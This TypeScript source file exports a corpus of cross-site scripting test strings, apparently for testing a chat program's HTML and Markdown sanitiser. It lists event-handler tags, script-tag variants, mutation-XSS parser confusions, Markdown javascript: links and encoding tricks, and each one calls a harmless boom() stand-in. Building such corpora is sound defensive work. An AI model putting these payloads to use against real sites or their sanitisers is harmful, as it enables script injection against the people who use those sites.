//! Ways in which text has become script in chat programs, editors and sanitisers. Each would call `boom()` if it ran.

const CALL = 'boom()';

/** Elements that run script by an event of their own. */
const EVENTS = [
  ['img src=x', 'onerror'], ['img src=/icon.svg', 'onload'], ['svg', 'onload'], ['body', 'onload'], ['iframe', 'onload'],
  ['input autofocus', 'onfocus'], ['select autofocus', 'onfocus'], ['textarea autofocus', 'onfocus'], ['details open', 'ontoggle'],
  ['video src=x', 'onerror'], ['audio src=x', 'onerror'], ['video><source', 'onerror'], ['object data=x', 'onerror'],
  ['marquee', 'onstart'], ['div style="animation-name:x"', 'onanimationstart'], ['a href=# autofocus', 'onfocus'],
  ['button autofocus', 'onfocus'], ['embed src=x', 'onload'], ['link rel=stylesheet href=x', 'onerror'], ['style', 'onload'],
  ['math', 'onload'], ['svg><animate attributeName=x dur=1s', 'onbegin'], ['svg><set attributeName=x dur=1s', 'onbegin'],
  ['dialog open', 'onclose'], ['p popover id=x', 'onbeforetoggle'],
].map(([tag, event]) => `<${tag} ${event}=${CALL}>`);

const SCRIPTS = [
  `<script>${CALL}</script>`, `<SCRIPT>${CALL}</SCRIPT>`, `<script src=data:text/javascript,${CALL}></script>`,
  `<script/x>${CALL}</script>`, `<script\n>${CALL}</script\n>`, `<scr<script>ipt>${CALL}</scr</script>ipt>`,
  `<svg><script>${CALL}</script></svg>`, `<svg><script href=data:text/javascript,${CALL} />`,
  `<math><mtext><script>${CALL}</script></mtext></math>`, `</textarea><script>${CALL}</script>`,
  `</title><script>${CALL}</script>`, `</style><script>${CALL}</script>`, `"><script>${CALL}</script>`,
  `'><script>${CALL}</script>`, `--><script>${CALL}</script>`, `]]><script>${CALL}</script>`,
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`, `<template><script>${CALL}</script></template>`,
];

/** Ways around a parser that reads HTML differently from the browser (mutation XSS). */
const MUTATIONS = [
  `<svg></p><style><a id="</style><img src=1 onerror=${CALL}>">`,
  `<math><mi//xlink:href="data:x,<script>${CALL}</script>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${CALL}>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${CALL}&gt;">`,
  `<svg><desc><b><style><img src=x onerror=${CALL}></style></b></desc></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${CALL}</script>"></iframe></foreignObject></svg>`,
  `<listing>&lt;img src=x onerror=${CALL}&gt;</listing>`, `<xmp><img src=x onerror=${CALL}></xmp>`,
  `<plaintext><img src=x onerror=${CALL}>`, `<table><td background="javascript:${CALL}">`,
  `<style>@import 'javascript:${CALL}';</style>`, `<p style="background:url(javascript:${CALL})">`,
  `<p style="width:expression(${CALL})">`, `<base href="javascript:/a/-${CALL}//"><a href=#>x</a>`,
  `<meta http-equiv=refresh content="0;url=javascript:${CALL}">`, `<iframe src="javascript:${CALL}"></iframe>`,
  `<iframe srcdoc="<img src=x onerror=parent.${CALL}>"></iframe>`, `<object data="javascript:${CALL}"></object>`,
  `<embed src="javascript:${CALL}">`, `<form action="javascript:${CALL}"><button>x</button></form>`,
  `<button formaction="javascript:${CALL}">x</button>`, `<input type=image src=x onerror=${CALL}>`,
  `<isindex type=image src=1 onerror=${CALL}>`, `<a href="javascript:${CALL}">x</a>`,
  `<svg><a xlink:href="javascript:${CALL}"><text y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${CALL}'/></svg>#x"/>`,
  `<a href="x" ping="javascript:${CALL}">x</a>`, `<img src="x\` \`onerror=${CALL}">`,
  `<img/src/onerror=${CALL}>`, `<img\tsrc=x\fonerror=${CALL}>`, `<IMG SRC=x OnErRoR=${CALL}>`,
  `<img src=x oNeRrOr=&#98;oom()>`, `<img src="x" onerror="${CALL}" x="`, `<!--<img src="--><img src=x onerror=${CALL}//">`,
  `<![CDATA[<img src=x onerror=${CALL}>]]>`, `<?xml version="1.0"?><img src=x onerror=${CALL}>`,
  `&lt;img src=x onerror=${CALL}&gt;`, `&#60;img src=x onerror=${CALL}&#62;`, `\u003cimg src=x onerror=${CALL}\u003e`,
  `＜img src=x onerror=${CALL}＞`, `%3Cimg%20src=x%20onerror=${CALL}%3E`,
];

/** Ways through Markdown's own constructs. */
const MARKDOWN = [
  `[x](javascript:${CALL})`, `[x](JaVaScRiPt:${CALL})`, `[x](java\nscript:${CALL})`, `[x](java&#x09;script:${CALL})`,
  `[x](&#106;avascript:${CALL})`, `[x](javascript&colon;${CALL})`, `[x](\u0001javascript:${CALL})`, `[x]( javascript:${CALL})`,
  `[x](data:text/html,<script>parent.${CALL}</script>)`, `[x](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuYm9vbSgpPC9zY3JpcHQ+)`,
  `[x](vbscript:${CALL})`, `[x](//javascript:${CALL})`, `[x](https://x"onmouseover="${CALL})`, `[x](<javascript:${CALL}>)`,
  `[x](https://x 'title" onmouseover="${CALL}')`, `![x](javascript:${CALL})`, `![x"onerror="${CALL}](x)`,
  `![x](x"onerror="${CALL})`, `<javascript:${CALL}>`, `<https://x"onmouseover="${CALL}">`,
  `[x]: javascript:${CALL}\n\n[x]`, `[x]: https://x "onmouseover=${CALL}"\n\n[x]`, `\`<img src=x onerror=${CALL}>\``,
  `\`\`\`html\n<img src=x onerror=${CALL}>\n\`\`\``, `\`\`\`"><img src=x onerror=${CALL}>\ncode\n\`\`\``,
  `\`\`\`html onload=${CALL}\n<script>${CALL}</script>\n\`\`\``, `# <img src=x onerror=${CALL}>`, `> <img src=x onerror=${CALL}>`,
  `- <img src=x onerror=${CALL}>`, `| a |\n|---|\n| <img src=x onerror=${CALL}> |`, `**<img src=x onerror=${CALL}>**`,
  `~~<svg onload=${CALL}>~~`, `@everyone<img src=x onerror=${CALL}>`, `@<img src=x onerror=${CALL}>`,
  `https://example.org/<img src=x onerror=${CALL}>`, `https://example.org/"onmouseover="${CALL}`,
  `www.example.org/<script>${CALL}</script>`, `mailto:x@example.org?body=<script>${CALL}</script>`,
  `<a href="https://x" onclick="${CALL}">[y](javascript:${CALL})</a>`, `[<img src=x onerror=${CALL}>](https://example.org)`,
  `- [x] <img src=x onerror=${CALL}>`, `:tada:<img src=x onerror=${CALL}>`,
];

/** Text that no message may hold; the server refuses it. */
export const XSS_REFUSED: readonly string[] = [`<img src=x onerror\u0000=${CALL}>`, `<\u0000img src=x onerror=${CALL}>`];

export const XSS_CORPUS: readonly string[] = [...EVENTS, ...SCRIPTS, ...MUTATIONS, ...MARKDOWN];
